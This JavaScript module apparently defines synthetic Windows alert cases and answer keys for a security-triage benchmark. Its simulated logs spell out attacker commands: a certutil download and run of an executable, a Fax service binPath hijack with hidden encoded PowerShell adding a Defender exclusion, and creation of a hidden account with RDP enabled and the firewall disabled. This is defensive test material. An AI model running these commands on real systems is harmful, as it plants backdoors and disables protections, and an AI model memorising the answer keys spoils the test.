// Tool downloads and persistence on one workstation: certutil with its
// change-ticket twin, a hijacked service and a hidden account.

import {
  analysts,
  encodePowerShell,
  logon,
  officeDay,
  proxyRequest,
} from '../lib/common.mjs';
import { hosts } from '../lib/hosts.mjs';
import {
  accountCreatedMessage,
  serviceStartTypeMessage,
  serviceStateMessage,
} from '../lib/windows-messages.mjs';
import { cmd, explorer, lsass, powershell } from '../lib/windows-paths.mjs';

function certutilDownload(c, hostName, { url, server, file, rules }) {
  const user = hosts[hostName].users[0];
  logon(c, hostName, -12, user, { logonType: 7 });
  proxyRequest(c, -6, hostName, {
    url: 'https://outlook.office365.example/owa/service.svc',
    server: '192.0.2.10',
    bytes: 4410,
    mime: 'application/json',
    context: true,
  });
  c.process(hostName, 0, {
    image: cmd,
    cmd: '"C:\\Windows\\System32\\cmd.exe" ',
    parentImage: explorer,
    cwd: `C:\\Users\\${user}\\`,
    user,
    rules,
  });
  c.process(hostName, 0.4, {
    image: 'C:\\Windows\\System32\\certutil.exe',
    cmd: `certutil.exe  -urlcache -split -f ${url} ${file}`,
    parentImage: cmd,
    parentCmd: '"C:\\Windows\\System32\\cmd.exe" ',
    cwd: `C:\\Users\\${user}\\`,
    user,
    rules,
  });
  proxyRequest(c, 0.43, hostName, {
    url,
    server,
    bytes: 1_245_184,
    mime: 'application/x-msdownload',
    agent: 'Microsoft-CryptoAPI/10.0',
    rules,
  });
  c.fileCreate(hostName, 0.44, {
    image: 'C:\\Windows\\System32\\certutil.exe',
    target: `C:\\Users\\${user}\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\9D3F1C7B2A6E48F0B1C5D2E7A9F3B6C4`,
    user,
    rules,
  });
  c.fileCreate(hostName, 0.45, {
    image: 'C:\\Windows\\System32\\certutil.exe',
    target: file,
    user,
    rules,
  });
  c.process(hostName, 1.2, {
    image: file,
    cmd: `"${file}" -install`,
    parentImage: cmd,
    parentCmd: '"C:\\Windows\\System32\\cmd.exe" ',
    cwd: `C:\\Users\\${user}\\`,
    user,
    rules,
  });
  c.imageLoad(hostName, 1.21, {
    image: file,
    loaded: file,
    signed: false,
    user,
    rules,
  });
  c.fileCreate(hostName, 1.3, {
    image: file,
    target: `C:\\Users\\${user}\\AppData\\Roaming\\${file.split('\\').pop().replace('.exe', '')}\\config.dat`,
    user,
    rules,
  });
}

const faxCommand = `Add-MpPreference -ExclusionPath 'C:\\ProgramData\\FaxSvc'; Start-Process 'C:\\ProgramData\\FaxSvc\\faxhelper.exe' -WindowStyle Hidden`;
const faxBinPath = `C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -enc ${encodePowerShell(faxCommand)}`;

/** Case specs of this group; lib/assemble.mjs reads their fields. */
export const toolsPersistenceCases = [
  {
    number: 8,
    id: 'certutil-malware-download',
    title:
      'certutil downloads and runs an unsigned executable from an external address',
    tags: ['execution', 'endpoint', 'external_attacker'],
    start: '2026-11-20T07:25:00Z',
    offense: {
      type: 0,
      source: '10.0.20.63',
      severity: 6,
      credibility: 6,
      relevance: 6,
      magnitude: 6,
      rules: [100208, 100304],
    },
    assets: ['ws-hr-063', 'proxy01'],
    build(c) {
      officeDay(c, 'ws-hr-063', -60);
      certutilDownload(c, 'ws-hr-063', {
        url: 'http://203.0.113.99/dl/svchelper.exe',
        server: '203.0.113.99',
        file: 'C:\\Users\\Public\\svchelper.exe',
        rules: [100208, 100304],
      });
    },
    derivedFrom: ['sigma-certutil', 'invented-windows', 'invented-linux'],
    rationale:
      'certutil fetches an executable from a bare external address and the unsigned file runs at once: a LOLBin download and execution; isolate the workstation or block the download host.',
    expected: {
      disposition: 'true_positive',
      attack_stage: 'execution',
      acceptable: [
        { action: 'isolate_host', target: '10.0.20.63' },
        { action: 'block_ip', target: '203.0.113.99' },
      ],
      forbidden: [
        { action: 'isolate_host', target: '10.0.1.50' },
        { action: 'disable_user' },
      ],
      approval_required: false,
    },
  },
  {
    number: 17,
    id: 'certutil-change-ticket',
    title: 'certutil downloads a remote support agent under an approved change',
    tags: ['benign', 'twin', 'approved_activity', 'endpoint'],
    twinOf: 'certutil-malware-download',
    start: '2026-11-20T09:45:00Z',
    offense: {
      type: 0,
      source: '10.0.20.64',
      severity: 6,
      credibility: 6,
      relevance: 6,
      magnitude: 6,
      rules: [100208, 100304],
    },
    assets: ['ws-hr-064', 'proxy01'],
    notes: [
      {
        t: 22,
        username: analysts.analyst,
        text: 'Checked with the IT service desk: change CHG-20455 (approved 2026-11-19) installs the Nimbus remote support agent on ws-hr-064 for Julien Moreau. The desk downloaded it with certutil because the HR proxy profile blocks browser downloads of executables; 198.51.100.140 is the vendor download host. Expected activity.',
      },
    ],
    build(c) {
      officeDay(c, 'ws-hr-064', -60);
      certutilDownload(c, 'ws-hr-064', {
        url: 'http://198.51.100.140/agent/RemoteSupportAgent.exe',
        server: '198.51.100.140',
        file: 'C:\\Users\\Public\\RemoteSupportAgent.exe',
        rules: [100208, 100304],
      });
    },
    derivedFrom: ['sigma-certutil', 'invented-windows', 'invented-linux'],
    rationale:
      'The same certutil download and execution as a malware drop, but a note records the approved change, the target host and the vendor download host: benign.',
    expected: {
      disposition: 'benign',
      attack_stage: 'benign',
      acceptable: [{ action: 'none' }],
      forbidden: [
        { action: 'isolate_host', target: '10.0.20.64' },
        { action: 'block_ip', target: '198.51.100.140' },
        { action: 'disable_user', target: 'jmoreau' },
      ],
      approval_required: false,
    },
  },
  {
    number: 27,
    id: 'service-binpath-persistence',
    title: 'Fax service binary path replaced with hidden encoded PowerShell',
    tags: ['persistence', 'endpoint'],
    start: '2026-11-20T10:05:00Z',
    offense: {
      type: 0,
      source: '10.0.20.36',
      severity: 7,
      credibility: 7,
      relevance: 6,
      magnitude: 7,
      rules: [100218, 100304],
    },
    assets: ['ws-fin-036', 'dc01'],
    build(c) {
      const host = 'ws-fin-036';
      const user = 'eandersson';
      const rules = [100218, 100304];
      const sc = 'C:\\Windows\\System32\\sc.exe';
      officeDay(c, host, -95);
      c.process(host, 0, {
        image: cmd,
        cmd: '"C:\\Windows\\System32\\cmd.exe" ',
        parentImage: explorer,
        integrity: 'High',
        user,
        rules,
      });
      c.fileCreate(host, 0.3, {
        image: cmd,
        target: 'C:\\ProgramData\\FaxSvc\\faxhelper.exe',
        user,
        rules,
      });
      c.process(host, 0.5, {
        image: sc,
        cmd: `sc.exe config Fax binPath= "${faxBinPath}"`,
        parentImage: cmd,
        integrity: 'High',
        user,
        rules,
      });
      c.registrySet(host, 0.51, {
        image: 'C:\\Windows\\system32\\services.exe',
        key: 'HKLM\\System\\CurrentControlSet\\Services\\Fax\\ImagePath',
        details: faxBinPath,
        user: 'NT AUTHORITY\\SYSTEM',
        rules,
      });
      c.process(host, 0.8, {
        image: sc,
        cmd: 'sc.exe config Fax start= auto',
        parentImage: cmd,
        integrity: 'High',
        user,
        rules,
      });
      c.system(host, 0.81, 7040, {
        message: serviceStartTypeMessage({
          service: 'Fax',
          from: 'demand start',
          to: 'auto start',
        }),
        rules,
        props: { 'Service Name': 'Fax' },
      });
      c.process(host, 1, {
        image: sc,
        cmd: 'sc.exe start Fax',
        parentImage: cmd,
        integrity: 'High',
        user,
        rules,
      });
      c.process(host, 1.01, {
        image: powershell,
        cmd: faxBinPath,
        parentImage: 'C:\\Windows\\System32\\services.exe',
        parentCmd: 'C:\\Windows\\system32\\services.exe',
        integrity: 'System',
        session: 0,
        user: 'NT AUTHORITY\\SYSTEM',
        rules,
      });
      c.registrySet(host, 1.2, {
        image:
          'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe',
        key: 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ProgramData\\FaxSvc',
        details: 'DWORD (0x00000000)',
        user: 'NT AUTHORITY\\SYSTEM',
        rules,
      });
      c.process(host, 1.3, {
        image: 'C:\\ProgramData\\FaxSvc\\faxhelper.exe',
        cmd: '"C:\\ProgramData\\FaxSvc\\faxhelper.exe"',
        parentImage: powershell,
        parentCmd: faxBinPath,
        integrity: 'System',
        session: 0,
        user: 'NT AUTHORITY\\SYSTEM',
        rules,
      });
      c.system(host, 1.9, 7036, {
        message: serviceStateMessage({ service: 'Fax', state: 'running' }),
        rules,
        props: { 'Service Name': 'Fax' },
      });
    },
    derivedFrom: [
      'otrf-service-binpath',
      'sigma-powershell-base64',
      'invented-windows',
    ],
    rationale:
      'The Fax service now starts hidden encoded PowerShell as SYSTEM, which adds a Defender exclusion and launches a dropped binary: service persistence; isolate the workstation.',
    expected: {
      disposition: 'true_positive',
      attack_stage: 'persistence',
      acceptable: [{ action: 'isolate_host', target: '10.0.20.36' }],
      forbidden: [
        { action: 'block_ip' },
        { action: 'isolate_host', target: '10.0.5.20' },
      ],
      approval_required: false,
    },
  },
  {
    number: 29,
    id: 'hidden-local-account',
    title:
      'Hidden local account created, RDP enabled and the firewall turned off',
    tags: ['persistence', 'endpoint'],
    start: '2026-11-19T22:40:00Z',
    offense: {
      type: 0,
      source: '10.0.20.66',
      severity: 7,
      credibility: 7,
      relevance: 6,
      magnitude: 7,
      rules: [100220, 100304],
    },
    assets: ['ws-hr-066', 'dc01'],
    build(c) {
      const host = 'ws-hr-066';
      const user = 'yito';
      const rules = [100220, 100304];
      const reg = 'C:\\Windows\\System32\\reg.exe';
      officeDay(c, host, -600);
      c.process(host, 0, {
        image: cmd,
        cmd: '"C:\\Windows\\System32\\cmd.exe" ',
        parentImage: explorer,
        integrity: 'High',
        user,
        rules,
      });
      c.process(host, 0.3, {
        image: 'C:\\Windows\\System32\\net.exe',
        cmd: 'net  user hideme0007$ Winter2026! /add',
        parentImage: cmd,
        integrity: 'High',
        user,
        rules,
      });
      c.process(host, 0.31, {
        image: 'C:\\Windows\\System32\\net1.exe',
        cmd: 'C:\\Windows\\system32\\net1  user hideme0007$ Winter2026! /add',
        parentImage: 'C:\\Windows\\System32\\net.exe',
        integrity: 'High',
        user,
        rules,
      });
      c.security(host, 0.32, 4720, {
        user,
        message: accountCreatedMessage({
          user,
          logonId: '0x7e2aa',
          newAccount: 'hideme0007$',
          computer: 'WS-HR-066',
        }),
        rules,
        props: { 'Target Account': 'hideme0007$' },
      });
      c.registrySet(host, 0.33, {
        image: lsass,
        key: 'HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\hideme0007$\\(Default)',
        details: 'Binary Data',
        user: 'NT AUTHORITY\\SYSTEM',
        rules,
      });
      const changes = [
        [
          'HKLM\\System\\CurrentControlSet\\Control\\Terminal Server',
          'fDenyTSConnections',
        ],
        [
          'HKLM\\System\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\PublicProfile',
          'EnableFirewall',
        ],
        [
          'HKLM\\System\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\StandardProfile',
          'EnableFirewall',
        ],
      ];
      changes.forEach(([key, value], index) => {
        const t = 1 + index * 0.5;
        c.process(host, t, {
          image: reg,
          cmd: `reg  add "${key}" /v ${value} /t REG_DWORD /d 0 /f`,
          parentImage: cmd,
          integrity: 'High',
          user,
          rules,
        });
        c.registrySet(host, t + 0.01, {
          image: reg,
          key: `${key}\\${value}`,
          details: 'DWORD (0x00000000)',
          user,
          rules,
        });
      });
    },
    derivedFrom: [
      'sigma-hidden-user',
      'sigma-firewall-disable',
      'invented-windows',
    ],
    rationale:
      'A hidden `$` local account, remote desktop enabled and both firewall profiles disabled within two minutes: a backdoor account for later access; isolate the workstation.',
    expected: {
      disposition: 'true_positive',
      attack_stage: 'persistence',
      acceptable: [{ action: 'isolate_host', target: '10.0.20.66' }],
      forbidden: [
        { action: 'block_ip' },
        { action: 'isolate_host', target: '10.0.5.20' },
      ],
      approval_required: false,
    },
  },
];
